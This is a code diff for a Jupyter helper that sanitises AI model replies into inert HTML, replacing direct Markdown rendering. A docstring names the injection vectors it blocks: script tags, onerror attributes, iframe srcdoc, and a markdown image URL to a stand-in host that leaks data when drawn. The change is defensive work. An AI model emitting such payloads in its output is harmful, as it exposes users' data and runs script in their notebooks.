@@ -12,10 +12,13 @@ import sys
 import time
 from collections.abc import Sequence
 from dataclasses import dataclass, fields
+from functools import lru_cache
 from pathlib import Path
 from typing import Any
 
-from IPython.display import Markdown, display
+import mistune
+import nh3
+from IPython.display import display
 
 from hipo_jupyter.memory import CompactionReport, Layer1, RecallResult, render
 from hipo_jupyter.memory.tree import count_tokens
@@ -177,9 +180,61 @@ def conversation_text(conversation: Any, path: str, window: int) -> str:
     return "\n".join(lines)
 
 
+# --- a model's words, as inert HTML --------------------------------------------------------
+# What the reply's HTML may hold after cleaning: text formatting, lists, tables, code, links.
+# No <img>, <area> or <map>: nothing is fetched unless the person clicks a link.
+INERT_TAGS = frozenset(nh3.ALLOWED_TAGS) - {"img", "area", "map"}
+LINK_SCHEMES = frozenset({"http", "https", "mailto"})
+LINK_REL = "noopener noreferrer nofollow"
+
+
+class _InertRenderer(mistune.HTMLRenderer):
+    """Markdown to HTML where raw HTML is text (`escape=True`) and an image is a link."""
+
+    def image(self, text: str, url: str, title: str | None = None) -> str:
+        label = html.escape(mistune.util.striptags(text) or url)
+        return f'<a href="{self.safe_url(url)}">[image: {label}]</a>'
+
+
+@lru_cache(maxsize=1)
+def _markdown() -> Any:
+    return mistune.create_markdown(
+        renderer=_InertRenderer(escape=True), plugins=["strikethrough", "table"]
+    )
+
+
+def inert_html(markdown: str) -> str:
+    """Markdown text from a model, an agent, a teammate or a file as HTML that cannot act.
+
+    Why not hand the text to the notebook as `text/markdown`: JupyterLab renders Markdown with
+    the HTML inside it, and the outputs of a notebook the user saved are trusted, so a
+    `<script>`, an `onerror=` or an `<iframe srcdoc>` in a reply runs on every reopening, and
+    `![x](http://host/?d=...)` fetches the moment the output is drawn. Here the Markdown is
+    rendered in the kernel with raw HTML escaped into visible text and each image turned into a
+    plain link (`[image: alt]`), then cleaned by nh3 (ammonia, a maintained allow-list
+    sanitizer) to text formatting, lists, tables, code and links: no script, style, event
+    attribute, frame, form or image survives, and links (http, https, mailto only, with
+    rel="noopener noreferrer nofollow") load nothing until clicked. The HTML is inert in the
+    saved file itself, so it stays inert whoever opens it, trusted or not."""
+    rendered = str(_markdown()(markdown))
+    return nh3.clean(
+        rendered,
+        tags=set(INERT_TAGS),
+        url_schemes=set(LINK_SCHEMES),
+        link_rel=LINK_REL,
+        strip_comments=True,
+    )
+
+
+def reply_bundle(text: str) -> dict[str, str]:
+    """A reply as a notebook keeps it: the inert HTML above, and the text as it came (a
+    terminal, nbconvert to text, or a reader without HTML shows that)."""
+    return {"text/html": f"<div class='hipo-reply'>{inert_html(text)}</div>", "text/plain": text}
+
+
 class ReplyView:
-    """A reply as it streams in: Markdown updated in place in a notebook (a few times a
-    second, not per token), plain text in a terminal."""
+    """A reply as it streams in: inert HTML (`reply_bundle`) updated in place in a notebook (a
+    few times a second, not per token), plain text in a terminal."""
 
     UPDATE_SECONDS = 0.1
 
@@ -199,7 +254,7 @@ class ReplyView:
         if self._handle is None:
             self._handle = self._show()
         elif now - self._last >= self.UPDATE_SECONDS:
-            self._handle.update(self._markdown())
+            self._handle.update(reply_bundle(self.text), raw=True)
         else:
             return
         self._last = now
@@ -212,10 +267,7 @@ class ReplyView:
             if self.text:
                 self._show()
         else:
-            self._handle.update(self._markdown())
-
-    def _markdown(self) -> Any:
-        return Markdown(self.text)
+            self._handle.update(reply_bundle(self.text), raw=True)
 
     def _show(self) -> Any:
-        return display(self._markdown(), display_id=True)
+        return display(reply_bundle(self.text), raw=True, display_id=True)
